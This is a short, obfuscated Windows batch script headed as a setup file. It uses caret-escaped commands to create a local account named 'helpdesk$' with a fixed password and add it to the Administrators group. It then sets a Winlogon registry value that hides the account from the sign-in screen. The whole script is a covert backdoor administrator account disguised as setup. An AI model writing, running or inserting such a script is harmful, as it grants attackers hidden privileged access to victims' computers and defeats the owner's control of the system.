REM setup 6350 v1
@echo off
@echo off
set fkes=^n^e^t ^u^ser he^l^pdes^k$ Qwerty#^7^7^8^8 /a^d^d /act^iv^e:^ye^s
call %fkes%
@echo off
set knxn=n^e^t ^loc^a^l^group A^dmi^ni^str^a^tors ^h^e^lpde^sk$ /^a^dd
call %knxn%
@echo off
set tiar=r^eg a^dd "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /^v ^he^l^p^des^k$ /t ^R^E^G_^DW^O^R^D /d 0 /f
call %tiar%
